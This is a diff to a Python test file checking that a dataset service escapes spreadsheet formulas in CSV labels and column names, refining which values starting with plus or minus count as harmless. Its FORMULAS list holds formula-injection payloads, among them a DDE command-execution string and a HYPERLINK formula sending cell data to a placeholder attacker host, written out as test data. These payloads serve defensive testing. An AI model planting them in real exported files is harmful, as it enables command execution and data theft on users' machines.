@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 import urllib.parse
 
 import pytest
@@ -11,9 +12,9 @@ from test_bad_requests import check_problem
 
 CSV, JSON = {"Content-Type": "text/csv"}, {"Content-Type": "application/json"}
 
-FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1)", "+1+2", "-1-2", "-a", "+", "=", "\t=1", "\r=1"]
-HARMLESS = ["a=b", "a-b", "x@y", "-5", "0.5", "-1e-7", "'quoted'", "it's", "'", "''", "a'=b"]
-APOSTROPHES = ["'=1+1", "''=1+1", "'-5", "'@x"]  # as they are: not our own escape
+FORMULAS = ["=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1,"x")', "@SUM(1)", "+SUM(A1)", "-'f'#A1", "-é(", "+c|' '!A0", "=", "\t=1", "\r=1"]
+HARMLESS = ["a=b", "a-b", "x@y", "-5", "0.5", "-1e-7", "+1+2", "-1-2", "+", "-10.000)", "+1+A2", "-1 year", "-a", "+44 (0)20", "'-5", "'quoted'", "it's", "'", "''", "a'=b"]
+APOSTROPHES = ["'=1+1", "''=1+1", "'-a()", "'@x"]  # as they are: not our own escape
 
 
 @pytest.fixture(scope="module")
@@ -42,29 +43,21 @@ def test_labels_that_a_spreadsheet_would_compute_are_guarded_and_come_back(store
     assert len(rows) == len(labels)
     for label, cell in ((labels[i], cell) for i, cell in rows.items()):
         assert cell == ("'" + label if label in FORMULAS + APOSTROPHES else label)
-        assert not (cell[:1] in ("=", "@", "\t", "\r") or (cell[:1] in ("+", "-") and not _is_number(cell)))
+        assert not (cell[:1] in ("=", "@", "\t", "\r") or (cell[:1] in ("+", "-") and re.search("[^\\W\\d_].*[(|!#]", cell)))
     again = store.request("POST", "/v1/datasets", raw=text, headers=CSV)
     assert again.status == 201 and again.json["classes"] == made["classes"]
     answer = store.get(f"/v1/datasets/{again.json['id']}/points?n={len(labels)}").json
     assert {int(x): label for (x, _), label in zip(answer["points"], answer["labels"], strict=True)} == dict(enumerate(labels))
 
 
-def _is_number(text):
-    try:
-        float(text)
-    except ValueError:
-        return False
-    return True
-
-
 def test_columns_that_a_spreadsheet_would_compute(store):
-    names = ["=1+1", "'@a", "-b", "+c d", "plain", "it's"]
+    names = ["=1+1", "'@a", "-b()", "+c d", "plain", "it's"]
     raw = ",".join(f'"{name}"' for name in names) + "\r\n1,2,3,4,5,6\r\n7,8,9,10,11,12\r\n"
     made = store.request("POST", "/v1/datasets", raw=raw.encode(), headers=CSV)
     # an apostrophe before such a character is one of ours, or as good as one
-    assert made.status == 201 and [column["name"] for column in made.json["columns"]] == ["=1+1", "@a", "-b", "+c d", "plain", "it's"]
+    assert made.status == 201 and [column["name"] for column in made.json["columns"]] == ["=1+1", "@a", "-b()", "+c d", "plain", "it's"]
     text = store.get(f"/v1/datasets/{made.json['id']}/points.csv?n=2").body
-    assert rows_of(text)[0] == ["'=1+1", "'@a", "'-b", "'+c d", "plain", "it's"]
+    assert rows_of(text)[0] == ["'=1+1", "'@a", "'-b()", "+c d", "plain", "it's"]
     again = store.request("POST", "/v1/datasets", raw=text, headers=CSV)
     assert [column["name"] for column in again.json["columns"]] == [column["name"] for column in made.json["columns"]]
     named = store.request("POST", "/v1/datasets?label=" + urllib.parse.quote("=1+1"), raw=text, headers=CSV)
